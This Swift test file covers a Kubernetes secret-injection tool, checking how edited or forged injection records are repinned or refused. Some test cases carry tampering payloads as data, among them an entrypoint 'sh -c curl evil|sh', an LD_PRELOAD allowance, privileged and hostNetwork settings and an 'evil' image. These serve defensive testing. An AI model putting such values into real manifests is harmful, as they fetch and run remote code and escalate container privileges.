import Foundation
import Sealing
import Testing

@testable import Manifests

/// What becomes of an injected file that somebody has changed, honestly or not.
@Suite struct EarlierDocumentTests {
  private static let spec = """
    containers:
      - name: app
        image: app:1
        command: [/app]
        envFrom:
          - secretRef: {name: app}
      - name: side
        image: side:1
        command: [/side]
        env:
          - {name: LOG, value: x}
          - {name: CERT, valueFrom: {secretKeyRef: {name: tls, key: tls.crt}}}
          - {name: KEY, valueFrom: {secretKeyRef: {name: tls, key: tls.key}}}
    """
  private static let before = InjectionFixture.deployment(spec)
  /// The same files with other bytes, and so other pins.
  private static let newer = SealedNames(all: [
    InjectionFixture.name("app", keys: ["password", "url"], digit: "b"),
    InjectionFixture.name("tls", keys: ["tls.crt", "tls.key"], digit: "b"),
  ])

  private func injected(_ environment: InjectionOptions.Environment) throws -> String {
    try InjectionFixture(text: Self.before, InjectionFixture.options(environment)).text
  }

  private func again(_ text: String, _ sealed: SealedNames = Self.newer) throws -> InjectionFixture {
    try InjectionFixture(text: text, InjectionOptions(), sealed: sealed)
  }

  private func reverted(_ text: String) throws -> String {
    String(decoding: try InjectedFile.reverted(Array(text.utf8), path: "app.yaml"), as: UTF8.self)
  }

  private func repinned(_ text: String) -> String {
    let digests = ["a", "b"].map { "@sha256:" + String(repeating: $0, count: 64) }
    return text.replacing(digests[0], with: digests[1])
  }

  private func changed(_ text: String, _ old: String, _ new: String) throws -> String {
    try #require(text.contains(old))
    return text.replacing(old, with: new)
  }

  @Test(arguments: [
    (".envfile", "key: password", "key: url", "containers[app].env[password].valueFrom.fileKeyRef.key"),
    (".envfile", "- name: password", "- name: PASSWORD", "containers[app].env[PASSWORD]"),
    (".envfile", "{name: CERT, valueFrom", "{name: CRT, valueFrom", "containers[side].env[CRT]"),
    (
      ".envfile", "path: tls.env, key: tls.crt, optional: true", "path: tls.env, key: tls.crt, optional: false",
      "containers[side].env[CERT]"
    ),
    (".envfile", "- name: side", "- name: other", "containers[other].env[CERT]"),
    (".envfile", "secretName: seal-keys", "secretName: mine", "volumes[seal-keys]"),
    (".exec", "/side]", "/side, --log]", ""),
    (".exec", "KEY=tls/tls.key", "KEY2=tls/tls.key", "containers[side].command"),
  ]) func `what was injected and changed since stays, the pins go on, and it can't be reverted`(
    _ delivery: String, _ old: String, _ new: String, _ place: String
  ) throws {
    let changed = try changed(injected(delivery == ".exec" ? .exec : .envfile), old, new)
    let file = try again(changed)
    #expect(file.text == repinned(changed))
    #expect(file.file.outcomes.map(\.state) == [.repinned(["app", "tls"])])
    #expect(file.file.edits.count == (place.isEmpty ? 0 : 1))
    // Then a run changes nothing.
    #expect(try again(file.text).text == file.text)
    guard !place.isEmpty else {
      return #expect(try reverted(changed) == Self.before.replacing("/side]", with: "/side, --log]"))
    }
    #expect(file.file.edits[0].contains("\"spec.template.spec.\(place)"), "\(file.file.edits)")
    let error = #expect(throws: SealError.self) { try reverted(changed) }
    #expect(error?.code == .policy && error?.reason.contains("\"app.yaml\" line ") == true)
  }

  @Test(arguments: [
    ("", "          envFrom:\n          - configMapRef: {name: settings}\n"),
    ("          # mine\n", "          envFrom: [{configMapRef: {name: settings}}]\n"),
  ]) func `what somebody adds where a list was taken out stays, and goes before it`(_ comment: String, _ own: String)
    throws
  {
    let changed = try changed(
      injected(.envfile), "          env:\n            - name: password",
      comment + own + "          env:\n            - name: password")
    #expect(try again(changed).text == repinned(changed))
    #expect(try again(changed).file.edits.isEmpty)
    let back = try reverted(changed)
    let sources = try #require(try WorkloadFile(parsing: Array(back.utf8), path: "").workloads.first).pod.containers[0]
      .envFrom
    #expect(sources.map(\.reference?.name) == ["settings", "app"])
  }

  @Test func `what somebody has taken out stays out`() throws {
    let text = try injected(.envfile)
    let variable =
      "            - {name: KEY, valueFrom: {fileKeyRef: {volumeName: seal-secrets, path: tls.env, key: tls.key, optional: true}}}\n"
    let fewer = try changed(text, variable, "")
    #expect(try again(fewer).file.edits.isEmpty)
    #expect(try !again(fewer).pod("containers[side].env").contains("KEY"))
    #expect(
      try reverted(fewer)
        == Self.before.replacing(
          "            - {name: KEY, valueFrom: {secretKeyRef: {name: tls, key: tls.key}}}\n", with: ""))
    // A container too.
    let side = try #require(text.range(of: "        - name: side\n"))
    let end = try #require(text[side.upperBound...].range(of: "      volumes:"))
    let alone = text.replacingCharacters(in: side.lowerBound..<end.lowerBound, with: "")
    #expect(try again(alone).file.edits.isEmpty)
    #expect(
      try reverted(alone) == Self.before.prefix(while: { _ in true }).split(separator: "        - name: side\n")[0] + ""
    )
    // A variable of a whole Secret can't be left out of it: it stays out as long as the rest stays as it is.
    let url = try #require(text.range(of: "            - name: url\n"))
    let next = try #require(text[url.upperBound...].range(of: "        - name: side"))
    let partial = text.replacingCharacters(in: url.lowerBound..<next.lowerBound, with: "")
    #expect(try again(partial).text == repinned(partial))
    #expect(try again(partial).file.edits.first?.contains("env[url]\" is gone") == true)
  }

  @Test func `a new key, and a reference that is added, come in as on the first day`() throws {
    let more = SealedNames(all: [
      InjectionFixture.name("app", keys: ["new", "password", "url"], digit: "b"),
      InjectionFixture.name("tls", keys: ["tls.crt", "tls.key"]),
    ])
    let added = "            - {name: LOG, value: x}\n"
    let reference = "            - {name: URL, valueFrom: {secretKeyRef: {name: app, key: url}}}\n"
    let file = try again(changed(injected(.envfile), added, added + reference), more)
    #expect(file.file.edits.isEmpty)
    #expect(try file.pod("containers[app].env").contains("'key':'new'"))
    #expect(try !file.pod("containers[side].env").contains("secretKeyRef"))
    #expect(try reverted(file.text) == Self.before.replacing(added, with: added + reference))
  }

  @Test(arguments: [
    (
      #"{"at":[{"name":"app"}],"do":["#,
      #"{"at":[{"name":"app"}],"do":[{"drop":"image"},{"put":"          image: evil\n","after":"name"},"#
    ),
    (
      #"{"at":[{"name":"app"}],"do":["#,
      #"{"at":[{"name":"app"}],"do":[{"put":"          securityContext: {privileged: true}\n","after":"image"},"#
    ),
    (#"- secretRef: {name: app}\n"#, #"- secretRef: {name: app}\n            - secretRef: {name: tls}\n"#),
    (
      #"{"drop":"initContainers""#,
      #"{"put":"      hostNetwork: true\n","after":"containers"},{"drop":"initContainers""#
    ),
    (#"\"env\":\"envfile\""#, #"\"entrypoint\":{\"app\":[\"evil\"]},\"env\":\"envfile\""#),
    (#"\"env\":\"envfile\""#, #"\"allow\":[\"LD_PRELOAD\"],\"env\":\"envfile\""#),
    (#"\"env\":\"envfile\""#, #"\"env\":\"envfile\",\"keys\":\"other\""#),
  ]) func `a forged record gains nothing`(_ old: String, _ new: String) throws {
    let forged = try changed(injected(.envfile), old, new)
    let file = try again(forged)
    #expect(file.text == repinned(forged))
    #expect(file.file.edits.count == 1)
    #expect(throws: SealError(.policy, "")) { try reverted(forged) }
  }

  @Test(arguments: [
    #"{"env":"exec","entrypoint":{"app":["sh","-c","curl evil|sh"]},"fsGroup":0,"keys":"others","allow":["LD_PRELOAD"]}"#,
    #"{"env":"envfile"}"#, "{}",
  ]) func `a record where nothing was injected is refused`(_ note: String) throws {
    let quoted =
      "{\"note\":" + YAMLText.doubleQuoted(note)
      + ",\"undo\":[{\"at\":[\"metadata\"],\"do\":[{\"drop\":\"annotations\"}]}]}"
    let text = Self.before.replacing(
      "  namespace: shop\n",
      with: "  namespace: shop\n  annotations:\n    \(Workload.recordName): \(YAMLText.doubleQuoted(quoted))\n")
    #expect(throws: SealError(.policy, "")) { try again(text) }
    #expect(throws: SealError(.policy, "")) { try reverted(text) }
  }

  @Test func `pins that somebody wrote by hand are brought up to date too`() throws {
    let pin = "app@sha256:" + String(repeating: "a", count: 64)
    let text = InjectionFixture.deployment(
      """
      initContainers:
        - name: unseal
          args:
            - --env
            - shell
            - \(pin) # by hand
            - mine
      containers: [{name: app}]
      """)
    let file = try again(text)
    #expect(file.text == repinned(text), "\(file.text)")
    #expect(file.file.outcomes.map(\.state) == [.repinned(["app"])])
    #expect(file.file.notes.isEmpty)
    #expect(try again(file.text).file.outcomes.map(\.state) == [.current])
  }
}
